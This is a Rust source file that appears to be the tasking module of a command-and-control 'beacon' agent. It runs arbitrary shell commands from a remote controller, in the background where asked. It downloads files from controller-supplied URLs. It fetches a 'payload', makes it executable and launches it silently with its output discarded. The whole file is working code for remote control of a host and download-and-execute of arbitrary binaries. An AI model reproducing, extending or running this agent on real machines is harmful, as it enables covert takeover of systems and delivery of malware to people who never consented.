//! Host side effects an agent performs on the controller's behalf.
//!
//! Failures never escape as errors: every operation answers with a result
//! record whose `success` flag is false and whose message says what went wrong.

use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::time::Duration;

use async_trait::async_trait;
use beacon_wire::{
    DownloadAndExecuteRequest, DownloadAndExecuteResult, DownloadFileRequest, DownloadFileResult,
    Response, RunCommandRequest, RunCommandResult, MAX_FRAME_LEN, SEALED_OVERHEAD,
};
use thiserror::Error;
use tokio::io::AsyncWriteExt;
use tokio::process::Command;
use tracing::{debug, warn};

/// Largest encoded reply that fits one frame under either transform.
const REPLY_BUDGET: usize = MAX_FRAME_LEN - SEALED_OVERHEAD;
const TRUNCATION_MARKER: &str = "\n[output truncated]\n";
const DOWNLOAD_TIMEOUT: Duration = Duration::from_secs(300);

#[derive(Debug, Error)]
pub enum CapabilityError {
    #[error("failed to spawn `{command}`: {source}")]
    Spawn {
        command: String,
        #[source]
        source: std::io::Error,
    },
    #[error("request failed: {0}")]
    Http(#[from] reqwest::Error),
    #[error("bad status: {0}")]
    Status(reqwest::StatusCode),
    #[error("{action} {path}: {source}")]
    Fs {
        action: &'static str,
        path: PathBuf,
        #[source]
        source: std::io::Error,
    },
}

#[async_trait]
pub trait Capability: Send + Sync {
    async fn run_command(&self, request: RunCommandRequest) -> RunCommandResult;

    async fn download_file(&self, request: DownloadFileRequest) -> DownloadFileResult;

    async fn download_and_execute(
        &self,
        request: DownloadAndExecuteRequest,
    ) -> DownloadAndExecuteResult;
}

/// Runs commands through the platform shell and downloads over HTTP(S).
#[derive(Debug, Clone)]
pub struct HostCapability {
    http: reqwest::Client,
    download_dir: PathBuf,
}

impl HostCapability {
    pub fn new(download_dir: PathBuf) -> Result<Self, CapabilityError> {
        let http = reqwest::Client::builder()
            .timeout(DOWNLOAD_TIMEOUT)
            .build()?;
        Ok(Self { http, download_dir })
    }

    /// Downloads `url` to `location`. A failed transfer leaves no file behind.
    async fn fetch_to(&self, url: &str, location: &Path) -> Result<u64, CapabilityError> {
        let response = self.http.get(url).send().await?;
        if !response.status().is_success() {
            return Err(CapabilityError::Status(response.status()));
        }
        if let Some(parent) = location.parent().filter(|p| !p.as_os_str().is_empty()) {
            tokio::fs::create_dir_all(parent)
                .await
                .map_err(|source| fs_error("create", parent, source))?;
        }
        let file = tokio::fs::File::create(location)
            .await
            .map_err(|source| fs_error("create", location, source))?;

        match write_body(response, file, location).await {
            Ok(written) => Ok(written),
            Err(err) => {
                if let Err(remove) = tokio::fs::remove_file(location).await {
                    warn!(
                        path = %location.display(),
                        error = %remove,
                        "failed to remove partial download"
                    );
                }
                Err(err)
            }
        }
    }

    async fn launch(&self, request: &DownloadAndExecuteRequest) -> Result<Option<u32>, CapabilityError> {
        let path = self.download_dir.join(download_name());
        let bytes = self.fetch_to(&request.url, &path).await?;
        make_executable(&path).await?;
        debug!(url = %request.url, path = %path.display(), bytes, "payload downloaded");

        let child = Command::new(&path)
            .args(&request.args)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .map_err(|source| CapabilityError::Spawn {
                command: path.display().to_string(),
                source,
            })?;
        Ok(child.id())
    }
}

#[async_trait]
impl Capability for HostCapability {
    async fn run_command(&self, request: RunCommandRequest) -> RunCommandResult {
        let mut command = shell(&request.command);
        command.stdin(Stdio::null());

        if request.background {
            command.stdout(Stdio::null()).stderr(Stdio::null());
            return match command.spawn() {
                Ok(child) => {
                    debug!(pid = child.id(), command = %request.command, "background command started");
                    RunCommandResult {
                        success: true,
                        output: String::new(),
                    }
                }
                Err(source) => failed_command(&request.command, source),
            };
        }

        match command.output().await {
            Ok(output) => {
                let mut text = String::from_utf8_lossy(&output.stdout).into_owned();
                text.push_str(&String::from_utf8_lossy(&output.stderr));
                if !output.status.success() {
                    if !text.is_empty() && !text.ends_with('\n') {
                        text.push('\n');
                    }
                    text.push_str(&output.status.to_string());
                }
                fit_result(
                    RunCommandResult {
                        success: output.status.success(),
                        output: text,
                    },
                    REPLY_BUDGET,
                )
            }
            Err(source) => failed_command(&request.command, source),
        }
    }

    async fn download_file(&self, request: DownloadFileRequest) -> DownloadFileResult {
        match self.fetch_to(&request.url, Path::new(&request.location)).await {
            Ok(bytes) => {
                debug!(url = %request.url, location = %request.location, bytes, "download complete");
                DownloadFileResult::ok()
            }
            Err(err) => {
                warn!(url = %request.url, error = %err, "download failed");
                DownloadFileResult::failed(err.to_string())
            }
        }
    }

    async fn download_and_execute(
        &self,
        request: DownloadAndExecuteRequest,
    ) -> DownloadAndExecuteResult {
        match self.launch(&request).await {
            Ok(pid) => DownloadAndExecuteResult::launched(pid),
            Err(err) => {
                warn!(url = %request.url, error = %err, "download and execute failed");
                DownloadAndExecuteResult::failed(err.to_string())
            }
        }
    }
}

#[cfg(windows)]
fn shell(line: &str) -> Command {
    let mut command = Command::new("cmd");
    command.arg("/C").arg(line);
    command
}

#[cfg(not(windows))]
fn shell(line: &str) -> Command {
    let mut command = Command::new("sh");
    command.arg("-c").arg(line);
    command
}

fn failed_command(command: &str, source: std::io::Error) -> RunCommandResult {
    let err = CapabilityError::Spawn {
        command: command.to_string(),
        source,
    };
    warn!(error = %err, "command failed to start");
    RunCommandResult {
        success: false,
        output: err.to_string(),
    }
}

async fn write_body(
    mut response: reqwest::Response,
    mut file: tokio::fs::File,
    location: &Path,
) -> Result<u64, CapabilityError> {
    let mut written = 0u64;
    while let Some(chunk) = response.chunk().await? {
        file.write_all(&chunk)
            .await
            .map_err(|source| fs_error("write", location, source))?;
        written += chunk.len() as u64;
    }
    file.flush()
        .await
        .map_err(|source| fs_error("write", location, source))?;
    Ok(written)
}

fn fs_error(action: &'static str, path: &Path, source: std::io::Error) -> CapabilityError {
    CapabilityError::Fs {
        action,
        path: path.to_path_buf(),
        source,
    }
}

fn download_name() -> String {
    let stem = uuid::Uuid::new_v4().simple().to_string();
    if cfg!(windows) {
        format!("{stem}.exe")
    } else {
        stem
    }
}

#[cfg(unix)]
async fn make_executable(path: &Path) -> Result<(), CapabilityError> {
    use std::os::unix::fs::PermissionsExt;
    tokio::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755))
        .await
        .map_err(|source| fs_error("chmod", path, source))
}

#[cfg(not(unix))]
async fn make_executable(_path: &Path) -> Result<(), CapabilityError> {
    Ok(())
}

/// Keeps the longest prefix of `result.output`, cut on a char boundary and
/// marked, whose encoded reply is at most `budget` bytes.
///
/// The budget applies to the encoding, not the raw text: escaped newlines,
/// quotes and control characters grow once encoded.
pub fn fit_result(result: RunCommandResult, budget: usize) -> RunCommandResult {
    if encoded_len(&result) <= budget {
        return result;
    }
    let RunCommandResult { success, output } = result;
    let cut_at = |cut: usize| RunCommandResult {
        success,
        output: format!("{}{TRUNCATION_MARKER}", &output[..floor_char_boundary(&output, cut)]),
    };

    // Largest cut whose marked reply still fits; the encoding grows with the cut.
    let (mut lo, mut hi) = (0, output.len());
    while lo < hi {
        let mid = lo + (hi - lo + 1) / 2;
        if encoded_len(&cut_at(mid)) <= budget {
            lo = mid;
        } else {
            hi = mid - 1;
        }
    }
    cut_at(lo)
}

fn floor_char_boundary(text: &str, mut index: usize) -> usize {
    while !text.is_char_boundary(index) {
        index -= 1;
    }
    index
}

fn encoded_len(result: &RunCommandResult) -> usize {
    Response::RunCommandResult(result.clone())
        .encode()
        .map_or(usize::MAX, |body| body.len())
}
